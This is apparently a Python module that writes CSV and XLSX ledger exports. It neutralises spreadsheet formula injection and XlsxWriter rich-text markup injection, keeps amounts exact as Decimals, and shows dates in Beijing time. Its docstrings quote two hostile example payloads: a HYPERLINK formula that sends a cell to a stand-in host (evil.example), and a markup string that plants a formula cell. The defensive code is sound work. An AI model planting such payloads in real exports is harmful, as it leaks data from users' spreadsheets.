"""Every CSV and XLSX file the service or the command line writes goes through here, so
that none carries a live formula (CONTRACT "Personal data and hostile input").

A spreadsheet takes a text cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage
return for a formula: a treasury payee written `=HYPERLINK("http://evil.example/?leak="&A1)`
would send the sheet away on a click. Such text is written with a leading `'`, and so is
text XlsxWriter would copy into the sheet's XML as rich-text markup (`<r>…</r>`): that
markup could close its own cell and open a formula cell beside it (see `unmarked`).

Cells are typed, so that only text is ever neutralised and numbers stay numbers:
- `str` → text, neutralised;
- `Decimal` (an amount) → a number: `#,##0.00` in XLSX, plain decimal text in CSV, so a
  negative amount is `-50.00`, not `'-50.00`;
- `date` → a date: `yyyy-mm-dd` in XLSX, ISO 8601 in CSV;
- `int` (a count, a line number, a position) → a number; `None` → an empty cell.
A float or a bool is refused: money never passes through a binary fraction in our code.

XLSX is written by XlsxWriter with write_string / write_number / write_datetime, never
write(), so no string is ever interpreted, and in constant_memory mode, so rows go to a
temporary file as they come. write_number is given the Decimal itself: XlsxWriter
formats it with `{:.16G}`, which prints a Decimal's own digits, exact up to the 15
significant digits Excel holds (a ledger amount has at most 14: 12 before the point).
An amount with more — only a sum over an uploaded file could have them — is written as
the text of its exact digits rather than rounded.

Files are for people in Chinese offices (issue 12): headers and sheet names in Chinese by
default (Column carries both languages, `lang="en"` picks English), CSV in UTF-8 with a
BOM (Excel on a Chinese Windows otherwise reads it as GBK and garbles it), a frozen
header row and column widths in XLSX, and instants in Beijing time: the ledger stores
UTC, an office reads 北京时间. China has kept UTC+8 without daylight saving since 1991,
so a fixed offset is exact for every date this ledger holds and needs no tz database.

Both writers stream: CSV comes in chunks of rows as they are produced, XLSX is built in
XlsxWriter's constant_memory mode into a temporary file and then read out in chunks, so a
100,000-line statement never sits in memory whole.
"""

from __future__ import annotations

import csv
import io
import re
import tempfile
from collections.abc import Iterable, Iterator, Sequence
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta, timezone
from decimal import Decimal
from typing import Any, Literal

import xlsxwriter

Cell = str | int | Decimal | date | None

# What makes a spreadsheet read text as a formula (OWASP, "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Excel keeps 15 significant digits of a number; past that it rounds.
EXCEL_DIGITS = 15
MONEY_FORMAT = "#,##0.00"
DATE_FORMAT = "yyyy-mm-dd"
DATETIME_FORMAT = "yyyy-mm-dd hh:mm:ss"
BEIJING = timezone(timedelta(hours=8), "Asia/Shanghai")
BOM = "\ufeff"
# What XlsxWriter (worksheet._write_cell) takes for rich-text markup and writes raw.
RICH_START, RICH_END = "<r>", "</r>"
CHUNK_ROWS = 1_000
CHUNK_BYTES = 256 * 1024
# Excel's rules for a sheet name: at most 31 characters, none of []:*?/\ .
_SHEET_NAME_FORBIDDEN = re.compile(r"[\[\]:*?/\\]")
Lang = Literal["zh", "en"]
LANGS: tuple[Lang, ...] = ("zh", "en")


@dataclass(frozen=True)
class Column:
    """A column of an export: its header in Chinese and in English, and its width in
    characters (a CJK character counts two)."""

    zh: str
    en: str
    width: float = 12

    def title(self, lang: Lang) -> str:
        return self.en if lang == "en" else self.zh


@dataclass(frozen=True)
class Sheet:
    """One worksheet: its title, its rows, a header row (frozen) if it has one, and the
    columns' widths."""

    title: str
    rows: Iterable[Sequence[Cell]]
    header: Sequence[str] | None = None
    widths: Sequence[float] = ()

    @classmethod
    def of(
        cls, title: Column, columns: Sequence[Column], rows: Iterable[Sequence[Cell]], lang: Lang
    ) -> Sheet:
        """A sheet titled and headed in the language asked for."""
        header = [column.title(lang) for column in columns]
        return cls(title.title(lang), rows, header, [column.width for column in columns])


def neutralised(text: str) -> str:
    """The text as a spreadsheet will show it and never evaluate it."""
    return f"'{text}" if text.startswith(FORMULA_STARTS) else text


def unmarked(text: str) -> str:
    """The text as an XLSX cell may carry it: XlsxWriter copies a string that begins
    `<r>` and ends `</r>` into the sheet's XML unescaped, as rich text — so a payee named
    `<r><t>x</t></r></is></c><c r="B2"><f>HYPERLINK(…)</f></c>…` would plant a live
    formula beside its own cell. Such text gets the leading `'` formula text gets."""
    return f"'{text}" if text.startswith(RICH_START) and text.endswith(RICH_END) else text


def csv_chunks(header: Sequence[str], rows: Iterable[Sequence[Cell]]) -> Iterator[bytes]:
    """A CSV file in UTF-8 with a BOM (RFC 4180 line ends) and a header row, in chunks of
    CHUNK_ROWS rows as the rows come."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    out.write(BOM)
    writer.writerow([neutralised(title) for title in header])
    for number, row in enumerate(rows, start=1):
        writer.writerow([_csv_cell(value) for value in row])
        if number % CHUNK_ROWS == 0:
            yield out.getvalue().encode()
            out.seek(0)
            out.truncate()
    yield out.getvalue().encode()


def csv_bytes(header: Sequence[str], rows: Iterable[Sequence[Cell]]) -> bytes:
    """The whole CSV file (see csv_chunks)."""
    return b"".join(csv_chunks(header, rows))


def _csv_cell(value: Cell) -> str:
    if value is None:
        return ""
    if isinstance(value, str):
        return neutralised(value)
    if isinstance(value, Decimal):
        return format(_finite(value), "f")
    if isinstance(value, datetime):
        return beijing(value).isoformat(sep=" ")
    if isinstance(value, date):
        return value.isoformat()
    return str(_integer(value))


def beijing(instant: datetime) -> datetime:
    """An instant as Beijing's clocks showed it (an instant without a zone is UTC, as the
    ledger stores it)."""
    if instant.tzinfo is None:
        instant = instant.replace(tzinfo=UTC)
    return instant.astimezone(BEIJING)


def xlsx_chunks(*sheets: Sheet) -> Iterator[bytes]:
    """An XLSX workbook of the sheets, in order, built in a temporary file and read out in
    chunks (the file is gone when the last chunk has been taken, or the reader stops)."""
    with tempfile.TemporaryFile(prefix="jobaid-", suffix=".xlsx") as out:
        book = xlsxwriter.Workbook(out, {"constant_memory": True, "in_memory": False})
        formats = _Formats(book)
        for sheet in sheets:
            _write_sheet(book.add_worksheet(sheet_name(sheet.title)), sheet, formats)
        book.close()
        out.seek(0)
        while chunk := out.read(CHUNK_BYTES):
            yield chunk


def xlsx_bytes(*sheets: Sheet) -> bytes:
    """The whole XLSX workbook (see xlsx_chunks)."""
    return b"".join(xlsx_chunks(*sheets))


def sheet_name(title: str) -> str:
    """The title as Excel allows a sheet to be named."""
    return _SHEET_NAME_FORBIDDEN.sub("_", title)[:31] or "Sheet1"


class _Formats:
    def __init__(self, book: Any) -> None:
        self.header = book.add_format({"bold": True})
        self.money = book.add_format({"num_format": MONEY_FORMAT})
        self.date = book.add_format({"num_format": DATE_FORMAT})
        self.datetime = book.add_format({"num_format": DATETIME_FORMAT})


def _write_sheet(worksheet: Any, sheet: Sheet, formats: _Formats) -> None:
    first = 0
    for column, width in enumerate(sheet.widths):
        worksheet.set_column(column, column, width)
    if sheet.header is not None:
        worksheet.freeze_panes(1, 0)
        for column, title in enumerate(sheet.header):
            worksheet.write_string(0, column, unmarked(neutralised(title)), formats.header)
        first = 1
    for number, row in enumerate(sheet.rows, start=first):
        for column, value in enumerate(row):
            _write_cell(worksheet, number, column, value, formats)


def _write_cell(worksheet: Any, row: int, column: int, value: Cell, formats: _Formats) -> None:
    if value is None:
        return
    if isinstance(value, str):
        worksheet.write_string(row, column, unmarked(neutralised(value)))
    elif isinstance(value, Decimal):
        if len(_finite(value).as_tuple().digits) > EXCEL_DIGITS:
            worksheet.write_string(row, column, format(value, "f"))
        else:
            worksheet.write_number(row, column, value, formats.money)
    elif isinstance(value, datetime):
        shown = beijing(value).replace(tzinfo=None)
        worksheet.write_datetime(row, column, shown, formats.datetime)
    elif isinstance(value, date):
        _write_date(worksheet, row, column, value, formats)
    else:
        worksheet.write_number(row, column, _integer(value))


# Excel counts days from 1899-12-30 for every date after February 1900 (it keeps Lotus
# 1-2-3's 29 February 1900); earlier dates go through XlsxWriter's own conversion.
EXCEL_EPOCH = date(1899, 12, 30).toordinal()
FIRST_PLAIN_SERIAL = date(1900, 3, 1)


def _write_date(worksheet: Any, row: int, column: int, value: date, formats: _Formats) -> None:
    """A date cell: its day number in a date format — what write_datetime writes, without
    its per-cell conversion through datetime (a statement has a date on every line)."""
    if value < FIRST_PLAIN_SERIAL:
        worksheet.write_datetime(row, column, value, formats.date)
    else:
        worksheet.write_number(row, column, value.toordinal() - EXCEL_EPOCH, formats.date)


def _finite(amount: Decimal) -> Decimal:
    if not amount.is_finite():
        raise ValueError(f"{amount} is not an amount")
    return amount


def _integer(value: object) -> int:
    """Only a true int is a number here: a float would carry money inexactly, and a bool
    is no number at all."""
    if type(value) is not int:
        raise TypeError(f"a {type(value).__name__} is not a cell: use str, int, Decimal or date")
    return value
